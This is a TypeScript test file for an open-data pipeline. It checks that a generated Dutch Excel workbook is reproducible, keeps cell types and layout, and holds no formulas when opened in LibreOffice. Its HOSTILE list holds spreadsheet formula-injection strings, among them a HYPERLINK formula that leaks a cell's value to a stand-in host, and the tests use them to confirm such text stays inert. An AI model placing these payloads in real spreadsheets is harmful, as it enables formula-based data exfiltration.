// The workbook (.xlsx): same bytes on every build, typed cells, frozen Dutch header and filter; LibreOffice reads back the data and no formula.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import JSZip from 'jszip';
import { afterAll, describe, expect, it } from 'vitest';
import { meaningOf } from '../../pipeline/emit/columns.js';
import { TABLES, type Table } from '../../pipeline/emit/tables.js';
import { toWorkbook } from '../../pipeline/emit/workbook.js';
import type { Dataset } from '../../pipeline/model.js';
import { project } from '../helpers.js';
import { EMPTY_CELL, SOFFICE, convertToFods, hasFormula, sheets, type SheetCell } from '../support/calc.js';
import { CLOCK, SLUG, TODAY, buildRelease, datasetOf, fileOf } from './release.js';

const PATH = `${SLUG}/${SLUG}.xlsx`;
const release = await buildRelease();
const dataset = datasetOf(release);
const workbook = fileOf(release, PATH);
const zip = await JSZip.loadAsync(workbook);
const xml = (name: string) => zip.file(name)!.async('string');
const SHEET_NAMES = ['Toelichting', ...TABLES.map((t) => t.titles.nl)];
const dir = mkdtempSync(join(tmpdir(), 'ontsluit-workbook-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** A small table with every kind of value, and texts a spreadsheet would run as formulas (column names of the release, which have a meaning). */
const HOSTILE = ['=1+2', '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Klik hier")', '+SUM(1;2)', '-1+1', '@SUM(1+1)', '＝1+2', "'=1+2"];
const sample: Table<{ text: string; n: number; d: string | null; b: boolean; l: string[] }> = {
  name: 'sample',
  titles: { nl: 'Proef', en: 'Sample' },
  description: { nl: 'Proef', en: 'Sample' },
  rows: () => HOSTILE.map((text, i) => ({ text, n: i - 3, d: i % 2 ? '2021-06-21' : null, b: i % 2 === 0, l: ['2021-01-01', '2021-02-28'] })).concat([{ text: 'regel een\nregel twee', n: 0, d: '2020-02-29', b: false, l: [] }]),
  columns: [
    { name: 'text', titles: { nl: 'Tekst', en: 'Text' }, datatype: 'string', required: true, value: (r) => r.text },
    { name: 'action_number', titles: { nl: 'Getal', en: 'Number' }, datatype: 'integer', required: true, value: (r) => r.n },
    { name: 'published', titles: { nl: 'Datum', en: 'Date' }, datatype: 'date', required: false, value: (r) => r.d },
    { name: 'in_registry', titles: { nl: 'Waar', en: 'True' }, datatype: 'boolean', required: true, value: (r) => r.b },
    { name: 'mentioned_dates', titles: { nl: 'Datums', en: 'Dates' }, datatype: 'date', required: false, value: (r) => r.l, separator: '; ' },
  ],
  primaryKey: ['text'],
  foreignKeys: [],
};
/** A dataset with no updates: the sample table takes its rows from itself. */
const NO_UPDATES = { updates: [] } as unknown as Dataset;
const META = { title: { nl: 'Proef', en: 'Sample' }, description: { nl: 'Proef', en: 'Sample' }, licence: 'http://creativecommons.org/publicdomain/zero/1.0/', planPage: 'https://example.org/', dates: { issued: '2026-11-01', modified: '2026-11-29' } };

/** What a cell must hold in Calc for a value of the dataset: integers as numbers, dates as dates, everything else as the same text. */
function expectCell(cell: SheetCell, datatype: string, value: unknown, where: string): void {
  expect(cell.formula, where).toBe('');
  if (value === null || (Array.isArray(value) && value.length === 0)) return expect(cell.type, where).toBe('');
  if (datatype === 'integer') return expect([cell.type, cell.value], where).toEqual(['float', String(value)]);
  if (datatype === 'date' && !Array.isArray(value)) return expect([cell.type, cell.date.slice(0, 10)], where).toEqual(['date', value]);
  const text = Array.isArray(value) ? value.join('; ') : String(value);
  expect([cell.type, cell.text], where).toEqual(['string', text]);
}

describe('the workbook', () => {
  it('is a distribution of the dataset named after it', () => {
    const file = release.files.find((f) => f.path === PATH)!;
    expect(file.mediaType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(file.fileType).toBe('XLSX');
    expect(file.title.nl).toMatch(/Excel/);
  });

  it('gives the same bytes on every build, with the release dates in the zip and the document properties', async () => {
    const again = fileOf(await buildRelease(CLOCK), PATH);
    expect(again.equals(workbook)).toBe(true);
    for (const entry of Object.values(zip.files)) expect(entry.date.toISOString(), entry.name).toBe(`${TODAY}T00:00:00.000Z`);
    const core = await xml('docProps/core.xml');
    expect(core).toContain(`<dcterms:created xsi:type="dcterms:W3CDTF">${TODAY}T00:00:00Z</dcterms:created>`);
    expect(core).toContain(`<dcterms:modified xsi:type="dcterms:W3CDTF">${TODAY}T00:00:00Z</dcterms:modified>`);
    const a = await toWorkbook([sample as Table<unknown>], NO_UPDATES, META);
    const b = await toWorkbook([sample as Table<unknown>], NO_UPDATES, META);
    expect(a.equals(b)).toBe(true);
    expect((await (await JSZip.loadAsync(a)).file('docProps/core.xml')!.async('string'))).toContain('2026-11-01T00:00:00Z</dcterms:created>');
  });

  it('has no formula: every sheet holds values only, texts as shared strings', async () => {
    for (let i = 1; i <= SHEET_NAMES.length; i++) {
      const sheet = await xml(`xl/worksheets/sheet${i}.xml`);
      expect(sheet, `sheet ${i}`).not.toMatch(/<f[ >]/);
      expect(sheet, `sheet ${i}`).not.toMatch(/t="(str|inlineStr|b)"/);
    }
  });

  it('freezes the Dutch header row and puts a filter on every table sheet', async () => {
    const book = await xml('xl/workbook.xml');
    for (const [i, table] of TABLES.entries()) {
      const sheet = await xml(`xl/worksheets/sheet${i + 2}.xml`);
      expect(sheet, table.name).toMatch(/<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"\/>/);
      expect(sheet, table.name).toMatch(/<autoFilter ref="A1:[A-Z]+\d+"\/>/);
      expect(book, table.name).toContain(`<definedName name="_xlnm._FilterDatabase" localSheetId="${i + 1}" hidden="1">`);
    }
  });
});

describe('the layout of a table sheet', async () => {
  const book = await JSZip.loadAsync(await toWorkbook([sample as Table<unknown>], NO_UPDATES, META));
  const part = (name: string) => book.file(name)!.async('string');
  const [sheet, styles] = [await part('xl/worksheets/sheet2.xml'), await part('xl/styles.xml')];
  const within = (tag: string) => styles.slice(styles.indexOf(`<${tag}`), styles.indexOf(`</${tag}>`));
  const xfs = within('cellXfs').match(/<xf [^>]*?(\/>|>.*?<\/xf>)/g)!;
  const fonts = within('fonts').match(/<font>.*?<\/font>|<font\/>/g)!;
  /** The cell format of a cell: its own style, else its row's. */
  const styleOf = (ref: string) => xfs[Number(sheet.match(new RegExp(`<c r="${ref}"(?: s="(\\d+)")?`))![1] ?? 0)]!;
  const rows = sample.rows(NO_UPDATES);

  it('sizes each column to its longest line or title, between 8 and 60 characters', async () => {
    const widths = [...sheet.matchAll(/<col min="(\d+)" max="(\d+)" width="([\d.]+)"/g)].flatMap((m) => Array<number>(Number(m[2]) - Number(m[1]) + 1).fill(Number(m[3])));
    const expected = sample.columns.map((column) => {
      const cells = rows.map((row) => {
        const v = column.value(row);
        const text = Array.isArray(v) ? v.join('; ') : v === null ? '' : column.datatype === 'date' ? 'yyyy-mm-dd' : String(v);
        return Math.max(...text.split('\n').map((line) => line.length)) + 1;
      });
      return Math.min(60, Math.max(8, column.titles.nl.length + 2, ...cells));
    });
    expect(widths).toEqual(expected);
    // The release's long texts stop at 60.
    const release = await Promise.all(TABLES.map((_, i) => xml(`xl/worksheets/sheet${i + 2}.xml`)));
    // Neighbouring columns of one width share a <col> element.
    const all = release.flatMap((text) => [...text.matchAll(/<col min="(\d+)" max="(\d+)" width="([\d.]+)"/g)].flatMap((m) => Array<number>(Number(m[2]) - Number(m[1]) + 1).fill(Number(m[3]))));
    expect(all.length).toBe(TABLES.reduce((n, t) => n + t.columns.length, 0));
    expect(Math.min(...all)).toBeGreaterThanOrEqual(8);
    expect(Math.max(...all)).toBe(60);
  });

  it('shows the header in bold, wraps the columns with line breaks and shows dates as yyyy-mm-dd', () => {
    expect(fonts[Number(styleOf('A1').match(/fontId="(\d+)"/)![1])]).toContain('<b/>');
    expect(styleOf('A2')).toContain('wrapText="1"');
    expect(styleOf('B2')).not.toContain('wrapText');
    const format = styleOf('C3').match(/numFmtId="(\d+)"/)![1];
    expect(within('numFmts')).toContain(`<numFmt numFmtId="${format}" formatCode="yyyy-mm-dd"/>`);
  });

  it('refuses a cell longer than a spreadsheet cell holds', async () => {
    const long = { ...sample, rows: () => [{ text: 'x'.repeat(32_768), n: 1, d: null, b: true, l: [] }] };
    await expect(toWorkbook([long as Table<unknown>], NO_UPDATES, META)).rejects.toMatchObject({ code: 'release-invalid', location: { source: 'workbook.xlsx', field: `${sample.name} row 1 text` }, found: '32768' });
  });
});

describe.skipIf(!SOFFICE)('the workbook opened in LibreOffice Calc (skipped: soffice missing, apt-get install libreoffice-calc-nogui)', () => {
  const open = (name: string, bytes: Buffer) => {
    const file = join(dir, `${name}.xlsx`);
    writeFileSync(file, bytes);
    const run = convertToFods([file], join(dir, 'calc'));
    expect(run.status, run.output).toBe(0);
    const fods = readFileSync(join(dir, 'calc', `${name}.fods`), 'utf8');
    return { fods, sheets: sheets(fods) };
  };

  let opened: ReturnType<typeof open> | undefined;
  const openRelease = () => (opened ??= open('release', workbook));

  it('shows the sheets in order, Toelichting first, each with the Dutch column titles and the same values as dataset.json', () => {
    const calc = openRelease();
    expect(hasFormula(calc.fods)).toBe(false);
    expect([...calc.sheets.keys()]).toEqual(SHEET_NAMES);
    for (const table of TABLES) {
      const sheet = calc.sheets.get(table.titles.nl)!;
      expect(sheet[0]!.map((c) => c.text), table.name).toEqual(table.columns.map((c) => c.titles.nl));
      const rows = table.rows(dataset);
      expect(sheet.length, table.name).toBe(rows.length + 1);
      rows.forEach((row, r) => table.columns.forEach((column, c) => expectCell(sheet[r + 1]![c] ?? EMPTY_CELL, column.datatype, column.value(row), `${table.name} row ${r + 1} ${column.name}`)));
    }
    const progress = calc.sheets.get('Voortgang')!;
    expect(progress.some((row) => row.some((c) => c.text.includes('\n')))).toBe(true);
  });

  it('explains the dataset and every column on the first sheet', () => {
    const { config } = project();
    const spec = config.catalog.datasets.find((d) => d.slug === SLUG)!;
    const about = openRelease().sheets.get('Toelichting')!;
    const value = (label: string) => about.find((row) => row[0]?.text === label)?.[1];
    expect(value('Titel')!.text).toBe(spec.title.nl);
    expect(value('Beschrijving')!.text).toBe(spec.description.nl);
    expect(value('Licentie')!.text).toBe(spec.license);
    expect(value('Bron')!.text).toBe(spec.planPage);
    expect(value('Gepubliceerd')!.date.slice(0, 10)).toBe(TODAY);
    for (const table of TABLES)
      for (const column of table.columns) {
        const row = about.find((r) => r[0]?.text === table.titles.nl && r[1]?.text === column.name);
        expect(row?.map((c) => c.text).slice(2, 8), `${table.name}.${column.name}`).toEqual([column.titles.nl, column.titles.en, expect.any(String), column.required ? 'ja' : 'nee', meaningOf(column.name).nl, meaningOf(column.name).en]);
      }
  });

  it('keeps texts that look like formulas as text, unchanged and not evaluated', async () => {
    const calc = open('hostile', await toWorkbook([sample as Table<unknown>], NO_UPDATES, META));
    expect(hasFormula(calc.fods)).toBe(false);
    const sheet = calc.sheets.get('Proef')!;
    sample.rows(NO_UPDATES).forEach((row, r) => sample.columns.forEach((column, c) => expectCell(sheet[r + 1]![c] ?? EMPTY_CELL, column.datatype, column.value(row), `row ${r + 1} ${column.name}`)));
    expect(sheet.slice(1, HOSTILE.length + 1).map((row) => row[0]!.text)).toEqual(HOSTILE);
  });
});
